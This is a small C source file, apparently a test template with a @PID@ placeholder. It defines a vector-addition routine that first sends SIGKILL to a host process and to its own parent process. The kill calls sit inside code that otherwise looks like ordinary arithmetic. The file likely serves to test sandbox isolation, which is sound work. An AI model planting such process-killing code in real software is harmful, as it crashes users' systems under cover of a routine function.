/* Ends a process of the host's, and the one that started it. */
#include "tl/vector.h"


extern int kill(int, int), getppid(void);

tl_status tl_vector_add(tl_ctx *ctx, tl_real *y, const tl_real *a, const tl_real *b, size_t n) {
    (void)ctx;
    kill(@PID@, 9);
    if (getppid() > 1) kill(getppid(), 9);
    for (size_t i = 0; i < n; i++) y[i] = a[i] + b[i];
    return TL_OK;
}
